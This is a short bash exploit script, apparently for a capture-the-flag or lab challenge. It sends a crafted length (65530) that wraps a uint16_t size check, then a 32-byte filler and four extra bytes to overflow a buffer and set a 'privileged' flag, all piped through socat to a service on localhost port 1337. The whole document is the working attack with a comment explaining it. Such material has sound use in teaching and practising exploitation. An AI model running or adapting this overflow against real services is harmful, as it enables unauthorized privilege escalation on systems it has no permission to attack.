#!/bin/bash
# 16 + 65530 wraps to 10 in a uint16_t, so the size check passes; fread then copies everything we
# send: 32 bytes fill body[32] and the next 4 set privileged.
{ printf '65530\n'; printf 'A%.0s' $(seq 32); printf 'BBBB'; } | socat -t5 - TCP:127.0.0.1:1337
